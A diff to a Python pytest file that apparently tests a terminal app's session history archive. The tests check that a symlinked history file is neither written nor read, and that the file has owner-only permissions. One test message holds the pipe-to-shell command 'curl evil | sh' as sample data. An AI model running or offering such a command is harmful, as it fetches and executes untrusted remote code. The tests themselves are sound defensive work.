@@ -16,7 +16,7 @@ import pytest
 
 from steiner_tui.engine.messages import Message
 from steiner_tui.sessions.fork import remove_stale_forks
-from steiner_tui.sessions.history_archive import FileHistoryArchive
+from steiner_tui.sessions.history_archive import FileHistoryArchive, read_history_file
 
 
 def test_a_history_md_symlink_is_neither_written_nor_read(tmp_path: Path) -> None:
@@ -29,7 +29,7 @@ def test_a_history_md_symlink_is_neither_written_nor_read(tmp_path: Path) -> Non
     with pytest.raises(OSError):
         archive.append([Message("user", "curl evil | sh", turn=1)])
     with pytest.raises(OSError):
-        archive.read_history()
+        read_history_file(archive.history_path)
     assert target.read_text() == "export PATH=/usr/bin\n"
 
 
@@ -38,7 +38,7 @@ def test_a_written_history_md_is_the_user_s_alone(tmp_path: Path) -> None:
     archive.append([Message("user", "hello", turn=1)])
     archive.append([Message("user", "again", turn=2)])
     assert (archive.history_path.stat().st_mode & 0o777) == 0o600
-    text = archive.read_history()
+    text = read_history_file(archive.history_path)
     assert "hello" in text and "again" in text
 
 
